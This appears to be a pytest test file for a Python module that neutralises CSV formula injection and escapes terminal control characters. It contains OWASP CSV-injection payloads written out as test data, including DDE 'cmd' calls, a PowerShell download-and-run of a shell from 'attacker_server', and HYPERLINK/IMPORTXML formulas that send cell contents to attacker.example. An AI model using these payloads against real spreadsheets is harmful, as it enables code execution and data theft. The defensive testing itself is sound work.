"""evsynth.textsafe: CSV cells neutralised against formula injection (OWASP payloads, lossless
round trip) and terminal text with control characters made visible."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evsynth.textsafe import (
    CSV_TRIGGERS,
    Style,
    csv_cell,
    csv_text,
    csv_uncell,
    echo,
    read_csv_cells,
    terminal_text,
    write_csv,
)

#: payloads from the OWASP "CSV Injection" page and its references (DDE, HYPERLINK, IMPORTXML,
#: leading tab/CR, operators)
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "+1+1",
    "=1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("http://attacker.example/x.png")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "=",
    "'=1+1",        # already quoted once: one more quote, so the round trip is exact
    "''@SUM(1,1)",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_neutralised_and_restored(payload):
    cell = csv_cell(payload)
    assert cell == "'" + payload  # one single quote in front (OWASP rule)
    assert not cell.startswith(CSV_TRIGGERS)
    assert csv_uncell(cell) == payload


@pytest.mark.parametrize("text", ["plain title", "Smith, J.", "'quoted'", "", " =1+1",
                                  "1-2", "a=b", "''", "'", "é=", "2020-01-01"])
def test_harmless_text_unchanged(text):
    assert csv_cell(text) == text and csv_uncell(text) == text


def test_numbers_stay_numbers_strings_do_not():
    for v in (-1.5, -3, 0, 2.5e-8, np.float64(-0.25), np.int64(-7)):
        assert csv_cell(v) is v  # a number is a number, not a formula
    assert csv_cell("-1.5") == "'-1.5"  # text from outside: OWASP rule
    assert csv_cell(None) is None
    assert csv_cell(True) == "True"  # booleans are not numbers here


@given(st.text())
def test_round_trip_is_lossless(s):
    assert csv_uncell(csv_cell(s)) == s
    assert not csv_cell(s).startswith(CSV_TRIGGERS)


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_csv_text_round_trip(rows):
    text = csv_text(rows, ["a", "b", "c"])
    back = read_csv_cells(text)
    assert back[0] == ["a", "b", "c"]
    assert [r for r in back[1:]] == rows
    for row in csv.reader(io.StringIO(text, newline="")):  # what a spreadsheet sees
        assert not any(c.startswith(CSV_TRIGGERS) for c in row)


def test_csv_text_dataframe_and_dicts(tmp_path):
    df = pd.DataFrame({"title": ["=1+1", "ok", None], "yi": [-1.5, 0.25, np.nan],
                       "n": pd.array([3, -4, None], dtype="Int64")})
    text = csv_text(df)
    assert text.splitlines() == ["title,yi,n", "'=1+1,-1.5,3", "ok,0.25,-4", ",,"]
    rows = [{"who": "@AB", "k": -2}, {"who": "CD", "k": 3}]
    assert csv_text(rows).splitlines() == ["who,k", "'@AB,-2", "CD,3"]
    assert csv_text(rows, ["k"]).splitlines() == ["k", "-2", "3"]
    p = write_csv(tmp_path / "x.csv", rows)
    assert p.read_text(encoding="utf-8") == csv_text(rows)
    with pytest.raises(ValueError, match="columns"):
        csv_text([["a"]])


# ------------------------------------------------------------------------- terminal text
@pytest.mark.parametrize("raw, shown", [
    ("\x1b[2J\x1b[31mred", "^[[2J^[[31mred"),
    ("bell\x07", "bell^G"),
    ("cr\roverwrite", "cr^Moverwrite"),
    ("nul\x00", "nul^@"),
    ("del\x7f", "del^?"),
    ("csi\x9b31m", "csiM-^[31m"),
    ("osc\x1b]0;title\x07", "osc^[]0;title^G"),
    ("line\nnext\ttab", "line\nnext\ttab"),  # newline and tab are kept
    ("é ü → ∞", "é ü → ∞"),
])
def test_terminal_text(raw, shown):
    assert terminal_text(raw) == shown


@given(st.text())
def test_terminal_text_has_no_control_characters(s):
    out = terminal_text(s)
    assert not any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in out)
    assert terminal_text(out) == out  # idempotent


def test_styles_kept_text_escaped():
    red, reset = Style("\x1b[31m"), Style("\x1b[0m")
    assert terminal_text(red, "a\x1b[2Jb", reset) == "\x1b[31ma^[[2Jb\x1b[0m"
    assert terminal_text("n = ", 3) == "n = 3"
    for bad in ("\x1b]0;x\x07", "\x1b[2Jx", "plain", "\x9b31m"):
        with pytest.raises(ValueError, match="Style"):
            Style(bad)


def test_echo(capsys):
    echo("title \x1b[2J", 3)
    echo("oops\x1b[31m", err=True)
    out, err = capsys.readouterr()
    assert out == "title ^[[2J3\n" and err == "oops^[[31m\n"
    buf = io.StringIO()
    echo("x\x07", file=buf, end="")
    assert buf.getvalue() == "x^G"
